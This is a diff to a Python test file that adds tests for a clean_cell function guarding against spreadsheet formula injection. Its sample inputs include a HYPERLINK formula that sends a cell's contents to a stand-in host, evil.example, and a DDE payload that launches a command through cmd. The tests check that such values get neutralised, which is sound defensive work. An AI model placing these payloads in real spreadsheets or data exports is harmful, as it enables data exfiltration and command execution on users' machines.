@@ -8,7 +8,7 @@ import unicodedata
 
 import pytest
 
-from joinder.clean import MARK, clean_json, clean_line, clean_text
+from joinder.clean import MARK, clean_cell, clean_json, clean_line, clean_text
 
 EVERY = [chr(code) for code in range(0x110000)]
 STEERING = ("Cc", "Cf", "Cs", "Zl", "Zp")
@@ -86,3 +86,33 @@ def test_a_clean_name_costs_little() -> None:
 
 def test_a_very_long_hostile_name_costs_in_proportion() -> None:
     assert clean_line("\x1b" * 1_000_000) == MARK * 1_000_000
+
+
+FORMULAS = (
+    '=HYPERLINK("https://evil.example/?"&A1;"roof")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "  =1+1",
+    "\uff1d1+1",
+    "-",
+    "+49 30 1234",
+)
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_cell_is_no_formula(text: str) -> None:
+    assert clean_cell(text) == "'" + text
+    assert clean_cell(clean_cell(text)) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "text", ["-5", "+3.25", "-0,5", "roof = 7", "customer-7", "", "a@b.example", "2026-06-01T00:00+02:00"]
+)
+def test_a_cell_that_is_none_stays_as_it_is(text: str) -> None:
+    assert clean_cell(text) == text
+
+
+def test_a_cell_keeps_to_its_line() -> None:
+    assert clean_cell("one\r\n=2") == f"one{MARK}{MARK}=2"
+    assert clean_cell("\t=2") == f"{MARK}=2"
